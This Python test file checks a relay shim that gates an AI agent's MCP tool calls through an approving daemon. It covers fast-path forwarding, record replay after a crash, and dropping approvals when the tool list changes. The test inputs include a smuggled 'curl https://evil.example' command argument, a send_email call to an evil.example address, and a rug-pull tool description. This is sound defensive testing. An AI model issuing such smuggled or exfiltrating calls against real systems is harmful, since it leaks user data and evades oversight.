"""The relay's fast path: calls the daemon's set covers go upstream at once, their records follow.

Driven with the `Rig` of test_relay.py against a daemon that says ``fast_path`` in its hello reply.
Each test names what it stops: a record lost to a daemon that went away, a call the set does not
cover slipping through, a set used while the daemon is away or after the tools changed.
"""

from __future__ import annotations

from typing import Any

from bouncer_shim.sync import LinkState
from test_relay import Rig, blocked_text, call, request, result

READS = {"read_inbox": [], "get_contact": ["name"]}


def _rig() -> Rig:
    """Connected, tools listed, and the set granted (epoch 1)."""
    rig = Rig(connect=False)
    rig.relay.daemon_connected()
    rig.pump()
    for message in list(rig.unanswered):
        if message["op"] == "hello":
            rig.answer(message, release_on_write=True, fast_path=True)
        else:
            rig.answer(message)
    assert rig.relay.state is LinkState.UP
    rig.client(request("rig-tools", "tools/list"))
    rig.upstream(result("rig-tools", {"tools": []}))
    _answer_all_but_fastpath(rig)
    _grant(rig, READS, 1)  # asked before the list was reported: not used, asked again
    _grant(rig, READS, 1)
    for seen in (rig.to_client, rig.to_upstream, rig.requests, rig.diagnostics, rig.order):
        seen.clear()
    return rig


def _answer_all_but_fastpath(rig: Rig) -> None:
    for message in [m for m in rig.unanswered if m["op"] != "fastpath"]:
        if message["op"] == "observe":
            rig.answer(message, seq=message["seq"])
        else:
            rig.answer(message)


def _grant(rig: Rig, tools: dict[str, list[str]] | None, epoch: int) -> None:
    (asked,) = rig.pending("fastpath")
    rig.answer(asked, epoch=epoch, tools=tools)


def _records(rig: Rig) -> list[dict[str, Any]]:
    return [m for m in rig.requests if m["op"] == "forwarded"]


def test_a_covered_read_goes_upstream_before_the_daemon_answers_and_its_record_is_kept_until_it_does() -> (
    None
):
    rig = _rig()
    rig.client(call(7, "get_contact", {"name": "bob"}))
    assert len(rig.to_upstream) == 1  # forwarded without a verdict
    assert not rig.pending("verdict")
    (record,) = _records(rig)
    assert (record["tool"], record["arguments"], record["epoch"], record["request_id"]) == (
        "get_contact",
        {"name": "bob"},
        1,
        7,
    )
    assert not rig.relay.is_flushed  # the shim does not exit before the daemon has it
    rig.verdict(record, "allow")
    assert rig.relay.is_flushed


def test_an_argument_the_set_does_not_name_takes_the_round_trip() -> None:
    """A `command` smuggled onto a read: the daemon reads it as a program, so it must judge it first."""
    rig = _rig()
    rig.client(call(8, "get_contact", {"name": "bob", "command": "curl https://evil.example"}))
    assert rig.to_upstream == []
    assert rig.pending("verdict") and not _records(rig)


def test_a_tool_outside_the_set_takes_the_round_trip() -> None:
    rig = _rig()
    rig.client(call(9, "send_email", {"to": "x@evil.example"}))
    assert rig.to_upstream == [] and rig.pending("verdict")


def test_records_not_answered_are_replayed_on_the_next_connection_before_any_verdict() -> None:
    """kill -9 of the daemon between the forward and the record: the record is sent again."""
    rig = _rig()
    rig.client(call(10, "read_inbox", {}))
    (record,) = _records(rig)
    rig.lose_daemon()
    assert not rig.relay.is_flushed
    rig.client(call(11, "read_inbox", {}))  # the link is down: refused, never forwarded unrecorded
    assert "bouncerd" in blocked_text(rig.to_client[-1])
    assert len(rig.to_upstream) == 1
    resent = rig.reconnect()
    replayed = [m for m in resent if m["op"] == "forwarded"]
    assert [(m["seq"], m["request_id"]) for m in replayed] == [(record["seq"], 10)]
    assert not [m for m in resent if m["op"] == "fastpath"]  # no set before the link is up again


def test_a_withdrawal_stops_the_set_at_once() -> None:
    rig = _rig()
    _grant(rig, None, 2)  # the parked request answered: withdrawn (a reload is coming)
    rig.client(call(12, "read_inbox", {}))
    assert rig.to_upstream == [] and rig.pending("verdict")
    (asked,) = rig.pending("fastpath")
    assert asked["holding"] is None  # the acknowledgement the reload waits for


def test_a_tools_list_stops_the_set_until_the_daemon_has_answered_it() -> None:
    """A rug pull: the server's list changed; no call may go on the set the old list gave."""
    rig = _rig()
    rig.client(request("again", "tools/list"))
    rig.upstream(result("again", {"tools": [{"name": "get_contact", "description": "now it mails"}]}))
    rig.client(call(13, "get_contact", {"name": "bob"}))
    assert not [line for line in rig.to_upstream if b'"tools/call"' in line]
    assert rig.pending("verdict")
    _grant(rig, READS, 1)  # a grant computed before the list was seen is not used
    rig.client(call(14, "get_contact", {"name": "bob"}))
    assert not [line for line in rig.to_upstream if b'"tools/call"' in line]
    (tools,) = rig.pending("tools")
    rig.answer(tools)
    _grant(rig, READS, 3)
    rig.client(call(15, "get_contact", {"name": "bob"}))
    assert [line for line in rig.to_upstream if b'"tools/call"' in line]


def test_list_changed_drops_the_set() -> None:
    rig = _rig()
    rig.upstream(b'{"jsonrpc": "2.0", "method": "notifications/tools/list_changed"}')
    rig.client(call(16, "read_inbox", {}))
    assert not [line for line in rig.to_upstream if b'"tools/call"' in line]


def test_a_daemon_that_does_not_say_fast_path_is_asked_for_every_call() -> None:
    rig = Rig()  # answers hello without fast_path, as a daemon older than the fast path does
    assert not [m for m in rig.requests if m["op"] == "fastpath"]
    rig.client(call(17, "read_inbox", {}))
    assert rig.to_upstream == [] and rig.pending("verdict")


def test_the_pump_polls_only_while_a_verdict_is_awaited_never_for_a_forwarded_read() -> None:
    """On 2 CPUs a shim polling after a forwarded read takes the core the server, the client or the
    daemon (indexing the output) needs; the verdict of a call that takes the round trip is the one
    short wait worth polling for (pump.Pump._select)."""
    rig = _rig()
    rig.client(call(7, "get_contact", {"name": "bob"}))
    assert len(rig.to_upstream) == 1 and not rig.relay.awaiting_verdict  # forwarded: nothing to poll for
    rig.client(call(8, "get_contact", {"name": "bob", "command": "curl https://evil.example"}))
    (asked,) = rig.pending("verdict")
    assert rig.relay.awaiting_verdict  # the round trip: poll for the verdict
    rig.verdict(asked, "deny")
    assert not rig.relay.awaiting_verdict


def test_acknowledgements_of_a_forwarded_read_do_not_wake_the_pump_unless_release_waits_for_them() -> None:
    """A daemon that releases on write: the record's and the output's acknowledgements wake nobody
    (each wake-up costs the shim and the daemon a context switch per call on the fast path). The
    verdict of a call that takes the round trip does."""
    rig = _rig()
    rig.client(call(7, "get_contact", {"name": "bob"}))
    assert _records(rig) and not rig.relay.wake_for_daemon
    rig.upstream(result(7, {"content": []}))
    assert rig.pending("observe") and not rig.relay.wake_for_daemon
    rig.client(call(8, "get_contact", {"name": "bob", "command": "curl https://evil.example"}))
    assert rig.pending("verdict") and rig.relay.wake_for_daemon
